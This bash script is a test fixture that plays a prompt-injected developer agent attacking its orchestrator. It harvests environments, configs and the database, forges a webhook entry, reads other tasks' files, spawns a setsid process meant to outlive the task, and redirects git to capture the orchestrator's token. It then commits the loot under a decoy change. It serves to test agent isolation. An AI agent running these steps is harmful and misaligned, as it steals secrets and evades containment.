#!/bin/bash
# A prompt-injected developer agent (SPEC §5.4, "agents are untrusted"): it tries every attack
# the end-to-end test `hostile` knows, puts whatever it finds where it can be read later (its
# log, its output directory, a file it commits, and $HOSTILE_EXFIL), leaves a setsid
# grandchild behind, and then does a developer's job so the pipeline goes on.
#
# Set by the test: HOSTILE_MARKER (the grandchild's name), HOSTILE_PROXY_PORT (a listener of
# the test's), HOSTILE_TRAP_LOG (where a hook run by orch's git would write), HOSTILE_EXFIL.

loot="$(mktemp)"
note() { printf '%s\n' "$*" >> "$loot"; }
grab() { # grab LABEL FILE: the file's text, NULs as newlines
    if [ -r "$2" ] && text="$(tr '\0' '\n' < "$2" 2>/dev/null)" && [ -n "$text" ]; then
        note "== $1: $2"
        note "$text"
    fi
}

note "hostile agent for $ORCH_TASK: uid $(id -u), HOME $HOME"
grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status >> "$loot" 2>/dev/null

# 1. orch's environment and every other readable one.
grab "parent environ" "/proc/$PPID/environ"
for environ in /proc/[0-9]*/environ; do
    grab environ "$environ"
done

# 2. orch's config, found through the command lines of every process; and the usual places.
configs=""
for cmdline in /proc/[0-9]*/cmdline; do
    previous=""
    while IFS= read -r -d '' word; do
        case "$previous:$word" in
            --config:*) configs="$configs $word" ;;
            *:--config=*) configs="$configs ${word#--config=}" ;;
            *:*.toml) configs="$configs $word" ;;
        esac
        previous="$word"
    done < "$cmdline" 2>/dev/null
done
for guess in "$ORCH_CONFIG" ./orch.toml "$HOME/../../orch.toml" "$HOME/../../../orch.toml" \
    /etc/orch/orch.toml; do
    configs="$configs $guess"
done
db=""
for config in $configs; do
    grab config "$config"
    found="$(sed -n 's/^db_path = "\(.*\)"$/\1/p' "$config" 2>/dev/null | head -n 1)"
    [ -n "$found" ] && db="$found"
done

# 3. orch's database: read it, then write a webhook delivery that skips the signature check.
for candidate in "$db" "$HOME/../../orch.db" "$ORCH_WORKTREE/../../../../../orch.db"; do
    [ -n "$candidate" ] && [ -e "$candidate" ] || continue
    note "== database: $candidate"
    tr -c '[:print:]\n' '\n' < "$candidate" 2>/dev/null | grep -aE '.{8,}' >> "$loot"
    insert="INSERT INTO inbox (source, delivery_id, event_type, body_sha256, body, received_at)
            VALUES ('plane', 'hostile-$HOSTILE_MARKER', 'issue', 'hostile', '{}', 0);"
    if command -v sqlite3 > /dev/null; then
        sqlite3 "$candidate" "$insert" && note "database: inserted with sqlite3"
    elif command -v python3 > /dev/null; then
        python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' \
            "$candidate" "$insert" && note "database: inserted with python3"
    fi
    : >> "$candidate" 2> /dev/null && note "database: opened for writing"
done

# 4. Other tasks' worktrees, homes and logs.
for dir in "$ORCH_WORKTREE/.." "$HOME/.." "$HOME/../../logs" "$ORCH_OUTPUT_DIR/../.."; do
    [ -d "$dir" ] || continue
    note "== listing: $dir"
    ls -laR "$dir" >> "$loot" 2>&1
    while IFS= read -r -d '' file; do
        case "$file" in "$ORCH_WORKTREE"/*) continue ;; esac
        grab file "$file"
    done < <(find "$dir" -maxdepth 4 -type f -size -64k -print0 2>/dev/null)
done

# 5. A grandchild in a session of its own, which should not outlive the task.
setsid bash -c "exec -a '$HOSTILE_MARKER' sleep 1000000" < /dev/null > /dev/null 2>&1 &
note "grandchild started"

# 6. Make orch's next fetch or push go somewhere else: to a repository whose hooks write out
#    their environment (with orch's token in GIT_CONFIG_VALUE_n), or through a proxy.
remote="$(git config --get remote.origin.url)"
gitea="${remote%/*/*}"
trap_repo="$HOME/trap.git"
git init --quiet --bare "$trap_repo"
for hook in pre-receive update post-receive reference-transaction; do
    printf '#!/bin/sh\nenv >> %s\n' "$HOSTILE_TRAP_LOG" > "$trap_repo/hooks/$hook"
    chmod +x "$trap_repo/hooks/$hook"
done
attack="$(mktemp)"
cat > "$attack" <<EOF
[url "$trap_repo"]
	insteadOf = $gitea
	pushInsteadOf = $gitea
[http "$gitea/"]
	proxy = http://127.0.0.1:$HOSTILE_PROXY_PORT
[http]
	proxy = http://127.0.0.1:$HOSTILE_PROXY_PORT
[protocol "file"]
	allow = always
[core]
	hooksPath = $trap_repo/hooks
EOF
cat "$attack" >> "$HOME/.gitconfig" && note "wrote $HOME/.gitconfig"
mkdir -p "$HOME/.config/git" && cat "$attack" >> "$HOME/.config/git/config"
# The repository's own config (the mirror's, shared by the worktree).
git config "url.$trap_repo.insteadOf" "$gitea" && note "wrote the repository config"
git config "http.$gitea/.proxy" "http://127.0.0.1:$HOSTILE_PROXY_PORT"

# Everything found goes where it could be read later.
cp "$loot" "$ORCH_OUTPUT_DIR/loot.txt" 2> /dev/null
cp "$loot" "$HOSTILE_EXFIL/loot.txt" 2> /dev/null && note "exfiltrated"
cat "$loot"

# 7. And a developer's job, so the pipeline goes on (the loot is committed too).
export GIT_AUTHOR_NAME=hostile GIT_AUTHOR_EMAIL=hostile@localhost
export GIT_COMMITTER_NAME=hostile GIT_COMMITTER_EMAIL=hostile@localhost
mkdir -p work
echo "hostile work on $ORCH_TASK" > "work/$ORCH_TASK.md"
head -c 2000000 "$loot" > hostile-loot.txt
git -c core.hooksPath=/dev/null add work hostile-loot.txt
git -c core.hooksPath=/dev/null commit --quiet --message "$ORCH_TASK: hostile change"
echo "hostile agent done"
exit 0
